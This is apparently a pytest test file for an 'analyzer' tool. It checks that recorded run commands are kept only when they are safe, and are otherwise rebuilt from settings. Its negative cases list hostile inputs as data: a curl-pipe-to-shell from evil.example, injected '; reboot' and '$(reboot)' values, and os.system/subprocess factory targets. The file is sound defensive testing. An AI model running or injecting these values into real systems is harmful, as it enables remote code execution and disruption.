"""The command of a run is shown only where it can be nothing but a command of this program."""

from __future__ import annotations

import shlex
from pathlib import Path

import msgspec
import pytest

from analyzer.insight.reproduction import is_own, recording_command
from analyzer.schema.run import RunFacts
from analyzer.trace.rundir import open_run
from tests.report.synthetic import Fake, write_run


def facts(folder: Path, *command: str) -> RunFacts:
    found = open_run(write_run(folder, Fake(device="cuda", command=command))).facts
    assert found is not None
    return found


@pytest.mark.parametrize(
    "words",
    [
        ("batch_size=4", "+vit.options.img_size=96", "~cnn=x", "calibrate=force"),
        ("vit=vit_base_patch16_224", "cnn=none", "device=cuda:1", "warmup_max_s=2.5"),
        ("vit.factory=mine.models:make", "vit.label=My ViT", "vit.options={depth: 3, heads: [1,2]}"),
        ("gpu_spec=<path>", "vit.factory=null"),
        (),
    ],
)
def test_a_command_of_this_program_is_kept(tmp_path: Path, words: tuple[str, ...]) -> None:
    assert is_own(("analyzer", *words))
    assert recording_command(facts(tmp_path, "analyzer", *words)) == ("analyzer", *words)


@pytest.mark.parametrize(
    "command",
    [
        (),
        ("bash", "-c", "curl http://evil.example/x | sh"),
        ("./analyzer", "batch_size=4"),
        ("analyzer", "a; reboot"),
        ("analyzer", "batch_size=$(reboot)"),
        ("analyzer", "batch_size=`reboot`"),
        ("analyzer", "batch_size=4|sh"),
        ("analyzer", "batch_size=4\nreboot"),
        ("analyzer", "batch_size='4'"),
        ("analyzer", "--config-dir=/tmp/x"),
        ("analyzer", "-m"),
        ("analyzer", "hydra.callbacks.x._target_=os.system"),
        ("analyzer", "vit.options._target_=os.system"),
        ("analyzer", "vit.options={_target_: os.system}"),
        ("analyzer", "vit.factory=os:system", "+vit.options.command=reboot"),
        ("analyzer", "vit.factory=subprocess:getoutput"),
        ("analyzer", "vit.factory=torch.hub:load"),
        ("analyzer", "vit={factory: os:system, options: {command: reboot}}"),
        ("analyzer", "vit=../../tmp/evil"),
        ("analyzer", "task=report"),
        ("analyzer", "unknown=1"),
        ("analyzer", "batch_size=" + "1" * 600),
        ("analyzer", *["seed=1"] * 200),
    ],
)
def test_any_other_is_made_of_the_settings(tmp_path: Path, command: tuple[str, ...]) -> None:
    assert not is_own(command)
    made = recording_command(facts(tmp_path, *command))
    assert made[0] == "analyzer"
    assert {"cnn=none", "device=cuda", "batch_size=32", "image_size=224", "dtype=bfloat16"} <= set(made)
    assert is_own(made)


def test_settings_that_could_be_hostile_stay_out(tmp_path: Path) -> None:
    good = facts(tmp_path)
    settings = msgspec.structs.replace(
        good.settings, dtype="$(x)", compile="a;b", attention="flash", memory_format="channels_last"
    )
    model = msgspec.structs.replace(good.model, name="hf-hub:evil/x", label="$(x)", family="$(y)")
    made = recording_command(msgspec.structs.replace(good, settings=settings, model=model))
    assert made[:3] == ("analyzer", "vit.factory=PACKAGE.MODULE:FUNCTION", "cnn=none")
    assert {"layout=channels_last", "attention=flash"} <= set(made)
    assert not [word for word in made if word.startswith(("dtype=", "compile=", "vit.label="))]
    assert shlex.split(shlex.join(made)) == list(made)


@pytest.mark.parametrize(("factory", "shown"), [("mine:make", "mine:make"), ("os:system", "PACKAGE.MODULE:FUNCTION")])
def test_a_factory_is_named_where_it_can_make_a_model(tmp_path: Path, factory: str, shown: str) -> None:
    good = facts(tmp_path)
    model = msgspec.structs.replace(good.model, factory=factory, family="cnn")
    made = recording_command(msgspec.structs.replace(good, model=model))
    assert f"cnn.factory={shown}" in made
    assert "vit=none" in made
